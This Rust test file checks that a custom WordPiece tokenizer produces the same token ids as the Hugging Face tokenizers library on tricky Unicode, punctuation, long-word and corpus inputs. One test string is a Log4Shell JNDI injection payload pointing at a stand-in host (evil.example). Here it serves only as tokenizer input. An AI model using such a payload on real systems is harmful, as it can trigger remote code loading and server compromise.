//! `secdisc_features::WordPiece` gives the ids of the `tokenizers` library, the reference, for
//! the same `tokenizer.json`: always on a small hand-made vocabulary, and on all-MiniLM-L6-v2's
//! over every text of `data/corpus.csv` when `SECDISC_ENCODER` is set.

use std::path::PathBuf;

use secdisc_features::WordPiece;
use tokenizers::Tokenizer;

/// Strings where a tokenizer is easy to get wrong.
const TRICKY: &[&str] = &[
    "",
    "   ",
    "Café crème brûlée naïve façade Ångström ØRESUND",
    "ﬁle ǅ ß STRASSE İstanbul ΣΊΣΥΦΟΣ",
    "漢字とカタカナ 한국어 中文测试",
    "emoji 😀👍🏽 🔐 flags 🇫🇷 zwj 👩‍💻",
    "punctuation!!! ??? ... --- ((nested)) [[x]] {a:b} <tag/> $$$ ^^^ `code` ~~ |pipe| a+b=c",
    "quotes “curly” ‘single’ «guillemets» — en–dash … ¿qué? ¡sí!",
    "control\u{0}chars\u{7}bell\u{1b}[31mred\u{1b}[0m\u{7f}del\u{200b}zero\u{feff}bom\u{fffd}",
    "tabs\tand\nnewlines\r\nand\u{a0}nbsp\u{2003}em\u{3000}ideo",
    "[CLS] literal [SEP] tokens [MASK] and [cls] [UNK][PAD]x",
    "combining \u{301}alone e\u{301} o\u{308}\u{304} hangul jamo \u{1100}\u{1161}",
    "CVE-2021-44228 log4j ${jndi:ldap://evil.example/a} sha256:9f86d081884c7d659a2feaa0c55ad015",
    "https://example.com/path?q=1&r=2#frag user@example.com C:\\Windows\\System32",
    "don't won't it's O'Reilly's",
    "arabic العربية hebrew עברית thai ภาษาไทย devanagari हिन्दी",
    "𝐁𝐨𝐥𝐝 𝑖𝑡𝑎𝑙𝑖𝑐 ① ² ½ Ⅻ",
    "private use \u{e000}\u{f8ff} and unassigned \u{378}",
    // ASCII alone takes a path of its own.
    "ascii vertical\u{b}tab form\u{c}feed unit\u{1f}sep nul\u{0}byte del\u{7f}ete bell\u{7}x",
    "ascii\ttabs\r\nnewlines  (nested)[x]{a:b}<t/>$^`~|+=_ don't CVE-2021-44228 LOG4J",
];

fn long_words() -> Vec<String> {
    vec![
        "a".repeat(100),
        "a".repeat(101),
        "é".repeat(100),
        "é".repeat(101),
        format!("{} tail", "x".repeat(250)),
        "ab".repeat(300),
        "漢".repeat(150),
    ]
}

fn reference_ids(tokenizer: &Tokenizer, text: &str) -> Vec<u32> {
    tokenizer.encode(text, false).unwrap().get_ids().to_vec()
}

fn assert_same_ids(json: &[u8], texts: &[&str]) -> usize {
    let mut reference = Tokenizer::from_bytes(json).unwrap();
    reference.with_truncation(None).unwrap();
    reference.with_padding(None);
    let ours = WordPiece::from_tokenizer_json(json).unwrap();
    let mut ids = Vec::new();
    let mut tokens = 0;
    for text in texts {
        ids.clear();
        ours.tokenize_ids(text, &mut ids);
        let expected = reference_ids(&reference, text);
        assert_eq!(ids, expected, "text {text:?}");
        tokens += ids.len();
    }
    tokens
}

fn tiny_tokenizer_json() -> String {
    let mut vocab: Vec<String> = ["[PAD]", "[UNK]", "[CLS]", "[SEP]", "[MASK]"]
        .iter()
        .map(|t| t.to_string())
        .collect();
    for word in [
        "the", "a", "cafe", "file", "log", "cve", "##4", "##j", "x", "##ss", "ab", "##ab", "漢",
        "字", "!", "?", ".", "-", "(", ")", "[", "]", "$", "{", "}", ":", "/", "'", "t", "don",
        "e", "##e", "i", "strasse", "ss", "😀", "##s", "s", "o", "##o", "2021", "##2", "##1",
    ] {
        if !vocab.iter().any(|t| t == word) {
            vocab.push(word.to_string());
        }
    }
    let map: serde_json::Map<String, serde_json::Value> = vocab
        .iter()
        .enumerate()
        .map(|(id, t)| (t.clone(), serde_json::json!(id)))
        .collect();
    let special = |id: usize| {
        serde_json::json!({"id": id, "content": vocab[id], "single_word": false, "lstrip": false,
            "rstrip": false, "normalized": false, "special": true})
    };
    serde_json::json!({
        "version": "1.0",
        "truncation": null,
        "padding": null,
        "added_tokens": (0..5).map(special).collect::<Vec<_>>(),
        "normalizer": {"type": "BertNormalizer", "clean_text": true, "handle_chinese_chars": true,
            "strip_accents": null, "lowercase": true},
        "pre_tokenizer": {"type": "BertPreTokenizer"},
        "post_processor": null,
        "decoder": null,
        "model": {"type": "WordPiece", "unk_token": "[UNK]", "continuing_subword_prefix": "##",
            "max_input_chars_per_word": 100, "vocab": map}
    })
    .to_string()
}

#[test]
fn matches_tokenizers_on_a_tiny_vocabulary() {
    let json = tiny_tokenizer_json();
    let long = long_words();
    let mut texts: Vec<&str> = TRICKY.to_vec();
    texts.extend(long.iter().map(String::as_str));
    texts.extend(["the cafe file", "Café x XSS abab ab-ab", "log4j CVE-2021"]);
    assert!(assert_same_ids(json.as_bytes(), &texts) > 50);
}

#[test]
fn matches_tokenizers_on_the_real_vocabulary_and_corpus() {
    let Some(dir) = std::env::var_os("SECDISC_ENCODER").filter(|d| !d.is_empty()) else {
        eprintln!("SKIPPED: SECDISC_ENCODER is not set (run scripts/fetch-encoder.sh)");
        return;
    };
    let json = std::fs::read(PathBuf::from(dir).join(secdisc_encoder::TOKENIZER_FILE)).unwrap();
    let corpus = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../data/corpus.csv");
    let mut reader = csv::Reader::from_path(&corpus).unwrap();
    let column = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == "text")
        .unwrap();
    let corpus_texts: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[column].to_string())
        .collect();
    assert!(corpus_texts.len() > 1000);
    let long = long_words();
    let mut texts: Vec<&str> = TRICKY.to_vec();
    texts.extend(long.iter().map(String::as_str));
    texts.extend(corpus_texts.iter().map(String::as_str));
    let tokens = assert_same_ids(&json, &texts);
    eprintln!("{} texts, {tokens} tokens: identical ids", texts.len());
}
